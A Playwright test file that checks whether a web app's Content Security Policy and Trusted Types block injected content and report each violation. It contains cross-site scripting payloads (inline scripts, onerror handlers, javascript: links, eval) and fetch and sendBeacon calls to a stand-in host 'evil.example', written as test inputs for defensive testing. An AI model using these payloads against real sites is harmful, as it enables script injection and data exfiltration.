import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { HostedSite } from './hostedSite.ts';
import { expect, test } from './hostedTest.ts';

test.use({ provokesViolations: true, serviceWorkers: 'block' });

const evil = 'https://evil.example';

/** Opens the app as if somebody had written into its document, under the headers as they are. */
async function openWith(page: Page, injected: string): Promise<void> {
  await page.route('**/guide', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', `${injected}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/guide');
}

/** Requests to another host that really left the browser, where `evil.example` answers. */
async function foreignRequests(page: Page, site: HostedSite): Promise<string[]> {
  await page.route(`${evil}/**`, (route) => route.fulfill({ body: '' }));
  const sent: string[] = [];
  const isForeign = (url: string) => !url.startsWith(site.origin) && !url.startsWith(site.apiOrigin);
  page.on('response', (response) => {
    if (isForeign(response.url())) sent.push(response.url());
  });
  return sent;
}

/** What is written into the document, what is pressed then, and the violation that the browser tells of. */
const injections: Record<string, { html: string; press?: string; told: string }> = {
  'an inline script': { html: '<script>pwned = 1</script>', told: 'script-src-elem inline' },
  'an inline module': { html: '<script type="module">pwned = 1</script>', told: 'script-src-elem inline' },
  'a handler': {
    html: '<button id="own" onclick="pwned = 1">눌러 보세요</button>',
    press: '#own',
    told: 'script-src-attr inline',
  },
  'a handler that needs no hand': {
    html: '<img src="data:," onerror="pwned = 1">',
    told: 'script-src-attr inline',
  },
  'a javascript link': {
    html: '<a id="own" href="javascript:void(pwned = 1)">눌러 보세요</a>',
    press: '#own',
    told: 'script-src-elem inline',
  },
  'a foreign script': { html: `<script src="${evil}/x.js"></script>`, told: `script-src-elem ${evil}/x.js` },
  'a data script': {
    html: '<script src="data:text/javascript,pwned=1"></script>',
    told: 'script-src-elem data',
  },
  'a foreign style sheet': {
    html: `<link rel="stylesheet" href="${evil}/x.css">`,
    told: `style-src-elem ${evil}/x.css`,
  },
  'a foreign frame': { html: `<iframe src="${evil}/"></iframe>`, told: `frame-src ${evil}` },
  'a plug-in': { html: `<object data="${evil}/x.swf"></object>`, told: `object-src ${evil}` },
  'another base': { html: `<base href="${evil}/">`, told: `base-uri ${evil}/` },
  'a form that leaves': {
    html: `<form action="${evil}/" method="post"><button id="own">보내기</button></form>`,
    press: '#own',
    told: `form-action ${evil}/`,
  },
};

test.describe('the policy stops and tells of', () => {
  for (const [what, { html, press, told }] of Object.entries(injections)) {
    test(what, async ({ page, site, violations }) => {
      const sent = await foreignRequests(page, site);
      await openWith(page, html);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      if (press !== undefined) await page.locator(press).dispatchEvent('click');
      await expect.poll(() => violations.events).toEqual([`/guide: ${told}`]);
      expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
      expect(await page.evaluate(() => location.pathname)).toBe('/guide');
      expect(sent).toEqual([]);
    });
  }
});

const sink = /(script-src eval|require-trusted-types-for trusted-types-sink)$/;

/** What a script of the app itself might be led to do with a foreign text. */
const scripts: Record<string, { code: string; told: RegExp }> = {
  eval: { code: "eval('pwned = 1')", told: sink },
  'a new Function': { code: "Function('pwned = 1')()", told: sink },
  'a timer of text': { code: "setTimeout('pwned = 1')", told: sink },
  'markup of text': {
    code: `document.body.innerHTML = '<img src="data:," onerror="pwned = 1">'`,
    told: sink,
  },
  'a script of text': {
    code: "document.body.append(Object.assign(document.createElement('script'), { text: 'pwned = 1' }))",
    told: sink,
  },
  'a policy of its own for markup': {
    code: "trustedTypes.createPolicy('evil', { createHTML: (text) => text })",
    told: /trusted-types trusted-types-policy$/,
  },
  'a call to a foreign host': {
    code: "fetch('https://evil.example/').catch(() => {})",
    told: /connect-src https:\/\/evil\.example\/$/,
  },
  'a beacon to a foreign host': {
    code: "navigator.sendBeacon('https://evil.example/', 'x')",
    told: /connect-src https:\/\/evil\.example\/$/,
  },
};

test.describe('the policy stops and tells of a script that would use', () => {
  for (const [what, { code, told }] of Object.entries(scripts)) {
    test(what, async ({ page, site, violations }) => {
      const sent = await foreignRequests(page, site);
      // A file of the app's own host: what the debugger runs is not held by the policy.
      await page.route('**/assets/injected.js', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: `try { ${code} } catch {}` }),
      );
      await openWith(page, '<script src="/assets/injected.js"></script>');
      await expect.poll(() => violations.events).toEqual([expect.stringMatching(told)]);
      expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      expect(sent).toEqual([]);
    });
  }
});

test('no other site shows the app in a frame', async ({ page, site, violations }) => {
  const other = createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(`<iframe src="${site.origin}/guide"></iframe>`);
  });
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
  try {
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    await expect.poll(() => violations.console).toEqual([expect.stringContaining('frame-ancestors')]);
    await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  } finally {
    other.close();
  }
});
